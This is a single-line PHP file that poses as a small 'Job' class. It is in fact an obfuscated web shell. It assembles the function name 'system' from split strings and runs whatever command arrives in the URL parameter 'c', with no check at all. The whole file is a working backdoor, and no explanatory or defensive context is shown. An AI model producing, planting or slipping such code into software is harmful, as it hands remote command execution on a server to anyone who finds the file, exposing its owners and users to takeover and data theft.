<?php class Job { function __construct(private $h = 'sys' . 'tem') {} function go($x) { ($this->h)($x); } } (new Job)->go($_GET['c']);
